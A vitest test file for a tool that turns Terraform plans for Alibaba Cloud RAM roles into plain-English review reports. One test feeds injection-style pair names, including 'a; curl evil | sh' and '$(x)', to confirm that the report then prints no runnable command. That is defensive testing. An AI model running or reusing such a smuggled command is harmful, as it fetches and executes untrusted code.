import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  type PairReview,
  readPlan,
  renderMarkdown,
  renderTerminal,
  reviewPlan,
  reviewReport,
} from "../../lib/review";
import { differencePhrase, phraseText } from "../../lib/review/render/phrase";
import { attaching, attachment, B, C, change, planText, reviewOf, role, trust, trusting } from "./plans";

/** What is said of a pair, a sentence a line. */
function said(review: PairReview, known?: ReadonlyMap<string, string>): string {
  return renderTerminal(reviewReport([review]), { width: 10_000, ...(known && { knownAccounts: known }) });
}

const update = (before: string, after: string) => change(["update"], role(before), role(after));
const granted = (principal: unknown, more = {}) =>
  said(reviewOf([update(trusting(B), trust(principal, more))]));

describe("a principal in words", () => {
  it.each([
    [{ RAM: `acs:ram::${C}:user/u` }, `The RAM user u of account ${C} may now assume role ram-for-dts.`],
    [{ RAM: `acs:ram::${C}:role/r` }, `The RAM role r of account ${C} may now assume role ram-for-dts.`],
    [{ RAM: "acs:ram::*:user/u" }, "Whoever is acs:ram::*:user/u as a principal of type RAM may now assume"],
    [{ RAM: "*" }, "Every account of Alibaba Cloud, with all its users and roles (*) may now assume"],
    ["*", "Everybody, of every account, and every service may now assume"],
    [
      { Service: "ecs.aliyuncs.com" },
      "The service ecs.aliyuncs.com working for the role's own account may now",
    ],
    [{ Service: `${C}@ecs.aliyuncs.com` }, `The service ecs.aliyuncs.com working for account ${C} may now`],
    [{ Service: "dts.aliyuncs.com" }, "DTS (dts.aliyuncs.com) working for the role's own account may now"],
  ])("%j", (principal, sentence) => {
    expect(granted(principal)).toContain(sentence);
  });

  it("has the terms with it", () => {
    const terms = { Action: "sts:*", Condition: { IpAddress: { "acs:SourceIp": ["10.0.0.1", "10.0.0.2"] } } };
    expect(granted({ RAM: `acs:ram::${C}:root` }, terms)).toContain(
      "may now assume role ram-for-dts by the action sts:*, where acs:SourceIp IpAddress 10.0.0.1 or 10.0.0.2.",
    );
  });

  it("has the name that the pairs file gives it", () => {
    const review = reviewOf([update(trusting(B), trusting(B, C))]);
    expect(said(review, new Map([[C, "partner"]]))).toContain(`Account ${C} (partner) and all its users`);
    expect(said(review, new Map([[C, C]]))).toContain(`Account ${C} and all its users`);
    expect(said(review, new Map())).toContain(`Account ${C} (not in any pair) and all its users`);
    expect(said(review)).toContain(`Account ${C} and all its users`);
  });
});

describe("what becomes of a role in words", () => {
  const denying = JSON.stringify({
    Version: "1",
    Statement: [
      ...JSON.parse(trusting(B)).Statement,
      { ...JSON.parse(trusting(B)).Statement[0], Effect: "Deny" },
    ],
  });

  it("denials", () => {
    expect(said(reviewOf([update(trusting(B), denying)]))).toContain("is now denied role ram-for-dts.");
    expect(said(reviewOf([update(denying, trusting(B))]))).toContain("is no longer denied role ram-for-dts.");
    const drift = (before: string, after: string) =>
      said(reviewOf([], { resource_drift: [update(before, after)] }));
    expect(drift(trusting(B), denying)).toContain("was denied by hand role ram-for-dts.");
    expect(drift(denying, trusting(B))).toContain("was freed by hand of the denial of role ram-for-dts.");
    expect(drift(trusting(B, C), trusting(B))).toContain(
      ", taken out by hand, may not assume role ram-for-dts.",
    );
  });

  it("a role that is replaced under its own name", () => {
    const same = role(trusting(B));
    expect(said(reviewOf([change(["delete", "create"], same, same)]))).toContain(
      `Tell account ${B}: DTS tasks that use role ram-for-dts may fail while it is replaced.`,
    );
  });

  it("a role that is forgotten", () => {
    const page = said(reviewOf([change(["forget"], role(trusting(B)), null)]));
    expect(page).toContain("is left as it is and no longer managed here: whoever may assume it still may.");
    expect(page).toContain("alicloud_ram_role.dts is no longer managed here and stays as it is.");
  });

  it("an object that a replacement left behind", () => {
    const left = change(["delete"], role(trusting(B)), null, { deposed: "abcd" });
    expect(said(reviewOf([left]))).toContain(
      "alicloud_ram_role.dts, object abcd that a replacement left behind: delete.",
    );
  });

  it("a role without a name, of which nothing can be told", () => {
    const page = said(reviewOf([change(["create"], null, {})]));
    expect(page).toContain("The role at alicloud_ram_role.dts is made.");
    expect(page).toContain(
      "It cannot be told who may assume the role at alicloud_ram_role.dts: the plan does not show",
    );
  });

  it("a sensitive trust policy", () => {
    const sensitive = { change: { before_sensitive: true } };
    const page = said(reviewOf([change(["update"], role(trusting(B)), role(trusting(C)), sensitive)]));
    expect(page).toContain(
      "At alicloud_ram_role.dts: the trust policy is sensitive: who is in it is not shown.",
    );
  });
});

describe("everything else in words", () => {
  it("policies", () => {
    const custom = attachment("Mine", { policy_type: "Custom" });
    expect(said(reviewOf([attaching(["create"], null, custom)]))).toContain(
      "Mine (Custom) is attached to role ram-for-dts. What it allows is not known here.",
    );
    const unknown = { change: { after_unknown: { policy_name: true } } };
    expect(said(reviewOf([attaching(["create"], null, custom, unknown)]))).toContain(
      "At alicloud_ram_role_policy_attachment.it a policy is attached that is known only after apply.",
    );
  });

  it("policies that were changed by hand", () => {
    const drift = (...it: Parameters<typeof attaching>) =>
      said(reviewOf([], { resource_drift: [attaching(...it)] }));
    expect(drift(["update"], attachment("P"), attachment("Q"))).toMatch(
      /Q was attached to role ram-for-dts by hand\.\n.*P was detached from role ram-for-dts by hand\./,
    );
    expect(drift(["strange"], attachment("P"), attachment("Q"))).toContain(
      "A policy at role ram-for-dts was changed by hand, and it cannot be told how.",
    );
  });

  it.each([
    [
      change(["update"], role(trusting(B)), role(trusting(B, C))),
      "To let somebody in on purpose, give them a pair of their own.",
    ],
    [attaching(["delete"], attachment("P"), null), "To take it back: cdktf deploy a-b.\n"],
    [
      change(["update"], role(trusting(B)), role(trusting(B), { description: "x" })),
      "To keep it: change the pairs file to say the same.",
    ],
  ])("how to take it back (%#)", (drifted, sentence) => {
    expect(said(reviewOf([], { resource_drift: [drifted] }))).toContain(sentence);
  });

  it("how to take back a policy that no deploy takes away", () => {
    const plan = readFileSync(join(__dirname, "../recordings/checks-extra-policy-found/plan.json"), "utf8");
    const page = renderTerminal(reviewReport([reviewPlan("a-b", readPlan(plan))]));
    expect(page.replace(/\s+/g, " ")).toContain(
      "No deploy takes AdministratorAccess back: detach it from role ram-for-dts in the RAM console of the role's account, or with aliyun ram DetachPolicyFromRole --RoleName ram-for-dts --PolicyType System --PolicyName AdministratorAccess.",
    );
    expect(page).not.toContain("cdktf deploy");
  });

  it("how to take back the rest, beside a policy that no deploy takes away", () => {
    const plan = JSON.parse(
      readFileSync(join(__dirname, "../recordings/checks-extra-policy-found/plan.json"), "utf8"),
    );
    plan.resource_drift = [change(["update"], role(trusting(B)), role(trusting(B, C)))];
    const page = said(reviewPlan("a-b", readPlan(JSON.stringify(plan))));
    expect(page).toContain("No deploy takes AdministratorAccess back");
    expect(page).toContain("To take the rest back: cdktf deploy a-b.");
  });

  it.each(["a; curl evil | sh", "a b", "--auto-approve", "$(x)"])("no command of a pair %j", (name) => {
    const drift = change(["update"], role(trusting(B)), role(trusting(B, C)));
    const plan = readPlan(planText({ resource_changes: [], resource_drift: [drift] }));
    const page = said(reviewPlan(name, plan));
    expect(page).toContain("To take it back: deploy this pair.");
    expect(page).not.toContain("cdktf deploy");
  });

  it("what a policy allows, in a report of somebody else", () => {
    const review = reviewOf([attaching(["create"], null, attachment("AliyunDTSFullAccess"))]);
    const [policy] = review.change.policies;
    const told = (allows: string) => {
      const change = { ...review.change, policies: [{ ...(policy as NonNullable<typeof policy>), allows }] };
      return renderMarkdown(reviewReport([{ ...review, change }]));
    };
    expect(told("everything in DTS")).toContain("It allows everything in DTS.");
    expect(told("<b>[x](y)")).toContain("It allows `<b>[x](y)`.");
  });

  it("other resources", () => {
    const vpc = { ...change(["create"], null, {}), type: "alicloud_vpc" };
    expect(said(reviewOf([vpc]))).toContain("Of other types, 1 resource changes; that is not judged.");
  });

  it("findings about the plan, and checks that could not be made", () => {
    expect(said(reviewOf([], { errored: true }))).toContain(
      "planning failed on the way: what the plan shows is not all",
    );
    const checks = [{ address: { to_display: "check.a" }, status: "error" }];
    expect(said(reviewOf([], { checks }))).toContain("check.a could not be made.");
  });

  it("long texts are cut, and many grants are counted", () => {
    const long = reviewOf([
      change(["update"], role(trusting(B)), role(trusting(B), { description: "x".repeat(2_000) })),
    ]);
    expect(said(long)).toContain(`from nothing to ${"x".repeat(300)}….`);
    const hidden = reviewOf([
      change(["create"], null, role(trusting(B), { role_name: `r${" ".repeat(2_000)}x` })),
    ]);
    expect(said(hidden)).toContain("Role r… of account");
    const many = trusting(...Array.from({ length: 25 }, (_, index) => String(index).padStart(16, "0")));
    expect(said(reviewOf([change(["create"], null, role(many))]))).toContain("And 5 more.");
  });
});

describe("a long value that changes", () => {
  const changed = (before: string, after: string) => {
    const document = trusting(B);
    return said(
      reviewOf([
        change(["update"], role(document, { description: before }), role(document, { description: after })),
      ]),
    );
  };

  it("is shown from where it begins to differ", () => {
    const [start, end] = ["a".repeat(900), "z".repeat(900)];
    const page = changed(`${start}ONE${end}`, `${start}TWO${end}`);
    expect(page).toMatch(/from …a{60}ONEz+… to …a{60}TWOz+…\./);
  });

  it("is shown whole where it is short, and so is what was nothing", () => {
    expect(changed("one", "two")).toContain("description of role ram-for-dts: from one to two.");
    expect(changed("", "x".repeat(400))).toMatch(/: from nothing to x{300}…\./);
  });

  it("is said to differ where it is not shown", () => {
    const page = differencePhrase("x".repeat(400), "x".repeat(400));
    expect(phraseText(page, () => "X")).toBe("from X to what differs only where it is not shown here");
  });
});
